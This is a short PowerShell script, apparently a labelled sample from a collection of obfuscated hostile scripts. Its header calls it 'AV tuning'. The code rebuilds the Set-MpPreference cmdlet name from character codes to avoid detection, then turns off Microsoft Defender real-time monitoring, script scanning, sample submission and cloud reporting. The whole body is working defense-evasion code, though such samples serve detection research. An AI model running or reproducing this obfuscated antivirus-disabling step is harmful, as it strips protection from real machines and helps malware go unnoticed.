# description: "AV tuning" that disables Defender real-time monitoring through a cmdlet name rebuilt from [char] codes.
# family: security
# obfuscated: yes
$codes = 83,101,116,45,77,112,80,114,101,102,101,114,101,110,99,101
$c = -join ($codes | ForEach-Object { [char]$_ })
$args1 = @{ DisableRealtimeMonitoring = $true; DisableScriptScanning = $true }
& $c @args1
Invoke-Expression "$c -SubmitSamplesConsent 2 -MAPSReporting 0"
